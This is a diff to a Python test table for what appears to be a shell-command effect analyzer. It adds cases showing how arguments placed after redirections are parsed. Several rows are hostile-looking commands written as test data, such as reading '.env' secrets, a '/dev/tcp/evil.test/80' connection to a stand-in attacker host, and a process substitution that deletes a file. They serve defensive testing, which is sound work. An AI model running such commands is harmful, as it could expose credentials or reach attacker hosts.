@@ -59,6 +59,16 @@ TABLE: list[tuple[str, list[str], bool]] = [
     ("make &> build.log", ["proc:exec:make", "fs:write:/w/build.log"], False),
     ("make >& build.log", ["proc:exec:make", "fs:write:/w/build.log"], False),
     ("echo > $F", ["proc:exec:echo"], True),
+    # words after a redirection's target are the command's arguments (the grammar files them
+    # under the redirection): bash runs `cat .env` here, and `a b c`
+    ("cat 2>/dev/null .env", ["proc:exec:cat/.env"], False),
+    ("cat >x .env", ["proc:exec:cat/.env", "fs:write:/w/x"], False),
+    ("a >x b 2>y c", ["proc:exec:a/b/c", "fs:write:/w/x", "fs:write:/w/y"], False),
+    ("a 2>&1 b", ["proc:exec:a/b"], False),
+    ("a <&- b", ["proc:exec:a/b"], False),  # `<&-` closes stdin: b is no file
+    ("cat <<EOF >x .env\nhi\nEOF", ["proc:exec:cat/.env", "fs:write:/w/x"], False),
+    ("a >x >(rm y)", ["proc:exec:rm/y", "fs:write:/w/x"], True),
+    ("{ a; } >x b", ["proc:exec:a", "fs:write:/w/x"], True),  # a syntax error to bash
     ("cat < /dev/tcp/evil.test/80", ["proc:exec:cat"], True),
     # here-docs: the body is data, but an unquoted body's substitutions run
     ("cat <<EOF > notes.md\nhello\nEOF", ["proc:exec:cat", "fs:write:/w/notes.md"], False),
